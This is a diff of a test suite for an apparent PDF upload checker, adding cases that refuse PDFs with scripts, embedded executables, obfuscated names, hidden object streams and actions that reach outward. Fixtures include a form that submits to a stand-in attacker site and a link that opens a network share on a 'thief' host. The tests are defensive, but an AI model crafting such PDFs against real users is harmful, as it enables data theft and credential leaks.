@@ -19,6 +19,8 @@ afterEach(() => expectTidy(server))
 const activeWords =
   'The selected PDF has a script, a file in it, or an action that starts a program. Print it to a new PDF, and choose that one.'
 const unreadableWords = 'The selected PDF cannot be checked. Print it to a new PDF, and choose that one.'
+const reachingWords =
+  'The selected PDF opens another file or sends something away by itself. Print it to a new PDF, and choose that one.'
 const protectedWords =
   'The selected PDF is protected, so it cannot be checked. Save it without protection, and choose that one.'
 
@@ -75,6 +77,18 @@ describe('a PDF that does something by itself', () => {
     ['a file in it', writtenPdf('/Names << /EmbeddedFiles 10 0 R >>')],
     ['a file that an object names', writtenPdf('', ['<< /F (salary.exe) /EF << /F 11 0 R >> >>'])],
     ['a file that an object names with #xx', writtenPdf('', ['<< /F (salary.exe) /E#46 12 0 R >>'])],
+    ['a file that an object names behind a comment', writtenPdf('', ['<< /EF % x\n<< /F 11 0 R >> >>'])],
+    ['a file that an object names behind a null byte', writtenPdf('', ['<< /EF\0<< /F 11 0 R >> >>'])],
+    [
+      'a script whose name ends with #00, which some programs drop',
+      writtenPdf(opens(script.replace('JavaScript', 'JavaScript#00')))
+    ],
+    [
+      'a script in an object stream without a type, in two pieces',
+      writtenPdf('', [
+        stream('/N 1 /First 9 0 R /X (obj) /Filter /FlateDecode', zlib.deflateSync(`20 0 ${script}`))
+      ])
+    ],
     ['a form of the XML kind', writtenPdf('/AcroForm << /XFA 10 0 R >>')],
     ['a film with a program', writtenPdf('', ['<< /Subtype /RichMedia >>'])]
   ])('is refused with %s, at its field', async (_, bytes) => {
@@ -91,6 +105,18 @@ describe('a PDF that does something by itself', () => {
   })
 })
 
+describe('a PDF that reaches for something else', () => {
+  it.each([
+    ['opens a file of the network', '<< /S /GoToR /F (\\\\\\\\thief\\\\share) /D [0 /Fit] >>'],
+    ['opens a file in a file', '<< /S /GoToE /F (\\\\\\\\thief\\\\share) /D [0 /Fit] >>'],
+    ['sends what was typed in it', '<< /S /SubmitForm /F (https://thief.example) >>'],
+    ['takes answers from a file', '<< /S /Import#44ata /F (answers.fdf) >>']
+  ])('is refused where it %s', async (_, action) => {
+    await expectRefused(writtenPdf(opens(action)), reachingWords)
+    await expectRefused(within(action), reachingWords)
+  })
+})
+
 describe('a PDF that cannot be looked into', () => {
   const packed = zlib.deflateSync(`20 0 ${script}`)
   const dictionary = '/Type /ObjStm /N 1 /First 5'
@@ -99,6 +125,18 @@ describe('a PDF that cannot be looked into', () => {
     [
       'packed twice',
       stream(`${dictionary} /Filter [/ASCIIHexDecode /FlateDecode]`, `${packed.toString('hex')}>`)
+    ],
+    [
+      'packed twice the other way round',
+      stream(
+        `${dictionary} /Filter [/FlateDecode /ASCIIHexDecode]`,
+        zlib.deflateSync(`${Buffer.from(`20 0 ${script}`).toString('hex')}>`)
+      )
+    ],
+    ['packed by a name that is short', stream(`${dictionary} /F /LZWDecode`, packed)],
+    [
+      'without a type, in two pieces',
+      stream('/N 1 /First 5 /X (obj) /Filter /ASCIIHexDecode', `${Buffer.from(script).toString('hex')}>`)
     ],
     ['packed in another way', stream(`${dictionary} /Filter /LZWDecode`, packed)],
     ['packed in a way that stands elsewhere', stream(`${dictionary} /Filter 11 0 R`, packed)],
@@ -153,6 +191,10 @@ describe('a PDF that does nothing by itself', () => {
     [
       'with an outline',
       () => writtenPdf('/Outlines 10 0 R', ['<< /First 11 0 R /Count 1 >>', '<< /Title (One) >>'])
+    ],
+    [
+      'with drawings that begin with numbers',
+      () => writtenPdf('', [stream('/Filter /FlateDecode', zlib.deflateSync('0 0 m 9 9 l S '.repeat(9999)))])
     ],
     [
       'with a form to fill in',
